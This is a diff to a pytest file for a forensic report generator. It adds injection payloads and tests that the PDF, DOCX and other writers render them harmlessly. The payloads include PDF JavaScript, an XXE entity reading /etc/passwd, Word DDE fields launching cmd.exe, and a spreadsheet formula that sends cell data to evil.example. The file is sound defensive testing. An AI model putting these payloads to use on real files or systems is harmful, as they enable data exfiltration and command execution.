@@ -7,11 +7,17 @@ import json
 import re
 import typing
 import unicodedata
+import zipfile
+from pathlib import Path
+from xml.etree import ElementTree
 
+import docx
+import pypdfium2
 import pytest
 
-from deepfake_studio.report import csv_writer, html, inert, json_writer
+from deepfake_studio.report import csv_writer, docx_writer, html, inert, json_writer, pdf
 from deepfake_studio.report.build import build
+from deepfake_studio.trials import verify_report
 
 PAYLOADS = {
     "script": "<script>alert(1)</script>",
@@ -61,6 +67,29 @@ PAYLOADS = {
     "hebrew": "קליפ 3.mp4",
     "json": '", "status": "examined", "x": "',
     "path": "../../../../etc/passwd",
+    "page alias": "{nb} {number} {pages} {0} {__class__}",
+    "pdf string": ") Tj ET /JS (app.alert(1)) BT (",
+    "pdf object": "endstream endobj 1 0 obj << /S /JavaScript /JS (app.alert(1)) >>",
+    "pdf hexadecimal": "<feff0041> Tj \\) \\051",
+    "xmp": "</dc:title><pdfaid:part>1</pdfaid:part>",
+    "seal": '<meta name="report-seal" content="<dc:identifier>content-sha256='
+    + "0" * 64
+    + "; audit-sequence=1; audit-head-sha256="
+    + "0" * 64,
+    "field code": 'INCLUDETEXT "c:\\\\secret.txt" DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
+    "word field": "</w:t></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r>",
+    "word xml": "</w:t><w:instrText>HYPERLINK</w:instrText><w:t>",
+    "entities": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+    "markdown": "**bold** --cut-- __under__ [link](javascript:alert(1)) ~~x~~",
+    "soft hyphen": "con\u00adfi\u00addence",
+    "annotation": "\ufff9shown\ufffahidden\ufffb",
+    "variation": "a\ufe0fb\U000e0101c",
+    "newline flood": "\n" * 800,
+    "tab flood": "\t" * 3000,
+    "long word of links": "http://" * 2000,
+    "arabic override": "\u202e\u0645\u0644\u0641.exe",
+    "import": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+    "dynamic data": '=DDE("cmd";"/C calc";"x")',
 }
 
 
@@ -148,7 +177,7 @@ def _check_csv(data):
         for field in row:
             if not re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", field):
                 assert not re.match(r"""[\s"']*[=+\-@＝＋－＠\t\r]""", field) or field.startswith("'")
-                assert not re.search(r"""[;\n]\s*["]?\s*[=+@\-]""", field)
+                assert not re.search(r"""[;\n][\s"]*[=+@\-]""", field)
 
 
 def _check_json(data):
@@ -179,3 +208,78 @@ def test_long_text_is_cut_visibly_with_its_hash():
 def test_text_made_inert_is_different_for_different_text():
     texts = ["\u202e", "⟦U+202E⟧", "A" * 2000, "A" * 2001, "⟦", "a\nb", "a⟦U+000A⟧b"]
     assert len({inert.line(t) for t in texts}) == len(texts)
+
+
+# ---- PDF and DOCX: all payloads in one document each, since laying one out takes a while -----------------------------
+
+
+@pytest.fixture(scope="module")
+def every(make):
+    """A document with each payload as a name, a note, a tag, a value, a statement and a title."""
+    base = make.one()
+    media = dataclasses.replace(make.media(), metadata={f"{k} {v}": v for k, v in PAYLOADS.items()})
+    records = [
+        dataclasses.replace(make.exhibit_record(i), note=text, received_from=text, tags=(text,), number=f"{i} {text}")
+        for i, text in enumerate(PAYLOADS.values(), 1)
+    ]
+    records[0] = dataclasses.replace(records[0], media=media)
+    findings = tuple(
+        make.finding(i, statement=text, basis=text, limitations=text, examiner=text)
+        for i, text in enumerate(PAYLOADS.values(), 1)
+    )
+    whole = "".join(v for v in PAYLOADS.values() if len(v) < 1000)
+    info = dataclasses.replace(base.info, number=whole, title=PAYLOADS["megabyte"], question=whole, requested_by=whole)
+    key = make.key_frame(caption=whole)
+    return build(make.snapshot(exhibits=records, findings=findings, info=info, key_frames=(key,)))
+
+
+def test_there_are_sixty_payloads():
+    assert len(PAYLOADS) >= 60
+
+
+def test_pdf_stays_harmless(every):
+    data = pdf.render(every)
+    # what is left without the strings: names, operators, streams; a string is only ever shown
+    outside = re.sub(rb"\((?:\\.|[^()\\])*\)", b"()", data, flags=re.S)
+    for name in (b"/JavaScript", b"/JS ", b"/Launch", b"/URI", b"/OpenAction <<", b"/EmbeddedFile", b"/AA "):
+        assert name not in outside
+    metadata = data[data.rindex(b'<?xpacket begin="\xef\xbb\xbf"') :]
+    assert data.count(b'<?xpacket begin="\xef\xbb\xbf"') == 1
+    assert metadata.count(b"<pdfaid:part>") == 1
+    found = pypdfium2.PdfDocument(data)
+    pages = [found[i].get_textpage().get_text_bounded() for i in range(len(found))]
+    text = "\n".join(pages)
+    assert not [c for c in _hidden(text.replace("\r", "")) if c not in "\ufffe"]
+    assert f"Page {len(pages)} of {len(pages)}" in pages[-1]
+    squeezed = re.sub(r"[\s\ufffe-]+", "", text)
+    for name in ("script", "template", "pdf string", "pdf object", "page alias", "word field", "markdown"):
+        assert re.sub(r"[\s-]+", "", PAYLOADS[name]) in squeezed, name
+    assert "⟦U+202E⟧" in squeezed
+    assert "⟦U+0000⟧" in squeezed
+    assert len(data) < 6_000_000
+
+
+def test_docx_stays_harmless(every):
+    data = docx_writer.render(every)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            content = archive.read(name)
+            if name.endswith((".xml", ".rels")):
+                ElementTree.fromstring(content)  # well formed: no payload closed or opened an element
+                assert b"<!ENTITY" not in content
+                assert b'TargetMode="External"' not in content
+                fields = set(re.findall(rb"<w:instrText[^>]*>([^<]*)", content))
+                assert fields <= {b"PAGE", b"NUMPAGES"}
+    found = docx.Document(io.BytesIO(data))
+    cells = "".join(t.text for table in found.tables for t in table._tbl.xpath(".//w:t"))
+    assert PAYLOADS["script"] in cells
+    assert PAYLOADS["field code"] in cells
+    assert not _hidden(cells.replace("\u200b", ""))
+    assert len(data) < 6_000_000
+
+
+@pytest.mark.parametrize("writer", [pdf, docx_writer, html, json_writer, csv_writer])
+def test_no_payload_can_pose_as_the_seal(writer, every, no_figures):
+    seal = verify_report.sealed(Path("report"), writer.render(every))
+    assert seal.content_sha256 == every.content_sha256
+    assert (seal.audit_sequence, seal.audit_head_sha256) == (every.audit_sequence, every.audit_head_sha256)
